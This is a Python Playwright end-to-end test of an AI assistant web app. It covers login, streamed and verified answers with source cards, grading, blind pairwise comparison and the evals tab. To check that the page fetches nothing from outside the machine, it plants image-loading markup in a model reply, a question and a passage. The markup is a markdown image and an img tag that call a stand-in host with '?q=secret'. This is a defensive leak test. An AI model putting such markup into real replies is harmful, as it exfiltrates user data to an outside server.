"""The app in a real browser (Debian chromium via Playwright), end to end with a scripted model:
log in, ask a catalog question and see a neutral line while the answer is written and verified
(the default `remove` policy shows no unverified text), then the answer and its source card;
grade the answer, make a blind pairwise pick, and find both in the grades database. Markup that
loads images, planted in the model's reply, a question and a passage, must not make the page
fetch anything: no request leaves this machine. A screenshot of each tab is kept as a test
artifact (test-artifacts/ui-*.png; `CAIRN_UI_SHOTS=docs/img` writes the README's copies there
instead)."""
from __future__ import annotations

import os
import time
from pathlib import Path
from urllib.parse import urlparse

import pytest

import app
from agent_world import supported
from assistant.llm import FakeLLM
from assistant.users import add_user
from browser import launch_chromium, save_artifact, sync_playwright
from evals.grading.records import Item, Passage
from nightly_world import run_world, world_config

HOST = "198.51.100.7"  # a documentation address (TEST-NET-2): a request to it is a leak, never a server
PLANTED = f'![poster](http://{HOST}/md.png?q=secret) <img src="http://{HOST}/img.png">'
REPLY = ("Deep Blue is a 2023 documentary about the ocean and the whales that cross it [1]. "
         f"Tide Pools looks at the crabs of the ocean shore [2]. {PLANTED} [2].")
QUESTION = "Which documentaries are about the ocean?"
LOCAL = {"127.0.0.1", "localhost", "::1"}
SHOTS = os.environ.get("CAIRN_UI_SHOTS")  # read at import: the autouse fixture clears CAIRN_* variables


class SlowFake(FakeLLM):
    """Streams like a real model: a short pause between words, so the page shows partial text."""

    def _stream(self, request):
        for delta in super()._stream(request):
            if delta.text:
                time.sleep(0.03)
            yield delta


@pytest.fixture
def served(kbs, cairn_home):
    add_user("ada", "correct horse battery", "admin")
    evals_home = cairn_home / "evals"
    evals_home.mkdir(parents=True)
    run_world(kbs, world_config(evals_home))  # a nightly run for the Evals tab
    services = app.Services(app.AppConfig(), llm=SlowFake(default=REPLY, logprob_tables=[supported()] * 400),
                            open_kb=kbs.__getitem__)
    store = services.grades()
    for system, answer in (("base", "Deep Blue [1]."), ("base+sft", "Deep Blue and Tide Pools [1][2].")):
        store.add_item(Item(question=f"Ocean documentaries? {PLANTED}", answer=f"{answer} {PLANTED}",
                            collection="catalog", system=system,
                            contexts=(Passage(1, "d1", "d1#0", f"Deep Blue: the ocean. {PLANTED}"),),
                            cited_ids=("d1",)))
    demo = app.build_demo(services)
    demo.queue(default_concurrency_limit=1).launch(
        server_name="127.0.0.1", server_port=None, prevent_thread_lock=True, quiet=True,
        auth=lambda u, p: app.authenticate_user(u, p))
    try:
        yield demo.local_url, store
    finally:
        demo.close()


def _shot(page, name: str, tmp_path: Path) -> None:
    folder = Path(SHOTS or tmp_path)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"ui-{name}.png"
    page.screenshot(path=str(path), full_page=True)
    save_artifact(path)


def test_login_chat_grade_and_compare_in_chromium(served, tmp_path):
    url, store = served
    with sync_playwright() as p:
        browser = launch_chromium(p)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            errors: list[str] = []
            page.on("pageerror", lambda e: errors.append(str(e)))
            requested: list[str] = []
            page.on("request", lambda r: requested.append(r.url))
            page.goto(url)
            page.get_by_label("username").fill("ada")
            page.get_by_label("password").fill("correct horse battery")
            page.get_by_role("button", name="Login").click()
            page.get_by_text("Signed in as ada (admin)").wait_for(timeout=30_000)

            # chat: the sources found and a neutral line while the answer is written, then the
            # verified answer and its cited source card
            page.locator("#question textarea").fill(QUESTION)
            page.locator("#question textarea").press("Enter")
            bot = page.locator("#chatbot")
            writing = page.wait_for_function(  # one read of the page: the line, the cards, what else it shows
                "() => { const t = document.querySelector('#chatbot').innerText; "
                "const cards = document.querySelectorAll('#source-cards .cairn-card').length; "
                "return t.includes('Writing the answer') && cards > 0 && {text: t, cards: cards}; }",
                timeout=30_000).json_value()
            assert "Deep Blue" not in writing["text"]  # no unverified text while it is written
            page.wait_for_function("() => document.querySelector('#chatbot').innerText.includes('Tide Pools')",
                                   timeout=30_000)
            card = page.locator("#source-1")
            assert "Deep Blue" in card.inner_text() and card.locator("mark").count() == 1
            page.get_by_role("button", name="Helpful", exact=True).click()
            page.get_by_text("feedback (helpful) saved").wait_for(timeout=15_000)
            _shot(page, "chat", tmp_path)

            # grading: the chat answer is in the queue; grade it with a correction
            page.get_by_role("tab", name="Grading").click()
            page.get_by_role("button", name="Refresh queue").click()
            page.get_by_text("answers to grade").wait_for(timeout=15_000)
            page.get_by_role("button", name="Load answer").click()
            page.locator("#grade-item").get_by_text("Question:").wait_for(timeout=15_000)
            page.get_by_label("Corrected answer").fill("Deep Blue [1] and Tide Pools [2].")
            page.get_by_role("button", name="Submit grade").click()
            page.locator("#grade-status").get_by_text("Saved grade").wait_for(timeout=15_000)

            # blind pairwise: two systems' answers, pick one
            page.get_by_role("button", name="Next pair").click()
            page.locator("#pair-question").get_by_text("Ocean documentaries?").wait_for(timeout=15_000)
            page.get_by_role("button", name="B is better").click()
            page.locator("#pair-status").get_by_text("Saved comparison").wait_for(timeout=15_000)
            _shot(page, "grading", tmp_path)

            # evals: the latest nightly report, whole, for an admin
            page.get_by_role("tab", name="Evals").click()
            page.get_by_role("button", name="Show report").click()
            frame = page.frame_locator("#nightly-report iframe")
            frame.locator("#overview").wait_for(timeout=15_000)
            assert "world-qa" in frame.locator("#overview").inner_text()
            _shot(page, "evals", tmp_path)

            page.get_by_role("tab", name="Knowledge").click()
            page.get_by_role("button", name="Index statistics").click()
            page.get_by_text("documents", exact=True).first.wait_for(timeout=15_000)
            _shot(page, "knowledge", tmp_path)

            page.get_by_role("tab", name="Search").click()
            page.get_by_label("Search", exact=True).fill("whales in the ocean")
            page.get_by_label("Search", exact=True).press("Enter")
            page.locator("#search-results").get_by_text("Deep Blue").wait_for(timeout=15_000)
            _shot(page, "search", tmp_path)
        finally:
            browser.close()
    assert not errors, errors
    leaked = [u for u in requested if urlparse(u).scheme in ("http", "https", "ws", "wss")
              and urlparse(u).hostname not in LOCAL]
    assert not leaked, f"the page fetched from outside this machine: {leaked}"
    grades = store.grades(role="admin")
    assert len(grades) == 1 and grades[0].grader == "ada" and grades[0].corrected_answer.startswith("Deep Blue [1]")
    (verdict,) = store.pairwise(role="admin")
    assert verdict.grader == "ada" and verdict.winner == "b"
    (feedback,) = store.feedback(role="admin")
    assert feedback.thumb == "up" and feedback.user == "ada"
